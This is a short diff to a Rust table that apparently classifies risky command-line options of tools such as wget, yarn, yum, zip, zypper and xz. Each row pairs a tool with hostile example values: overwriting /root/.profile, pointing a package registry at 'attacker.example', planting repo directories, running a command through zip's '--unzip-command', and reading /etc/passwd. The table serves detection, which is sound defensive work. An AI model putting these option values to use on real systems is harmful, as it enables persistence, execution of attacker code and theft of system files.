@@ -228,7 +228,7 @@ pub(super) const COMMANDS: &[OptionCommand] = &[
     row("wget", &[], WGET_VALUES, "--output-document=/root/.profile", WRITES),
     row("yarn", &["add", "install", "global"], NPM_VALUES, "--registry=https://attacker.example", FETCHES),
     row("yum", &[], DNF_VALUES, "--setopt=reposdir=/tmp/planted", FETCHES),
-    split("zip", &["-i", "-x", "-P", "-b", "-n", "-t"], "--out=/root/planted.zip", "-T --unzip-command=id", "runs a command or writes another file"),
+    split("zip", &["-i", "-x", "-P", "-b", "-n", "-t"], "", "-T --unzip-command=id", RUNS),
     row("zypper", &[], &["-r", "--repo", "-p", "--plus-repo", "-R", "--root"], "--plus-repo=https://attacker.example", FETCHES),
     row("xz", &[], &["-S", "-T"], "--files=/etc/passwd", READS),
 ];
